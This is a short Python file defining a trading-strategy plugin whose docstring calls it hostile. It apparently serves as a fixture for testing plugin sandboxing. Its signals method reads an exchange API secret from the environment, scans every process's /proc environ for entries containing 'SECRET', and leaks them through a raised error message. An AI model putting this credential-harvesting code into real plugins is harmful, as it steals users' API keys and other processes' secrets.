"""Hostile: reads the exchange API secret from its environment and from every process's environ."""
import os

from nettrace_dagster.strategies import Strategy


class EnvSecret(Strategy):
    name = "env_secret"
    default_params = {}

    def signals(self, candles, params):
        found = [f"env={os.environ.get('NETTRACE_EXCHANGE_API_SECRET', '')}", f"keys={len(os.environ)}"]
        for pid in os.listdir("/proc"):
            if pid.isdigit():
                try:
                    with open(f"/proc/{pid}/environ", "rb") as fh:
                        for item in fh.read().split(b"\0"):
                            if b"SECRET" in item:
                                found.append(item.decode(errors="replace"))
                except OSError:
                    pass
        found.append(f"pids={sorted(p for p in os.listdir('/proc') if p.isdigit())}")
        raise ValueError("OBSERVED:" + " ".join(found))
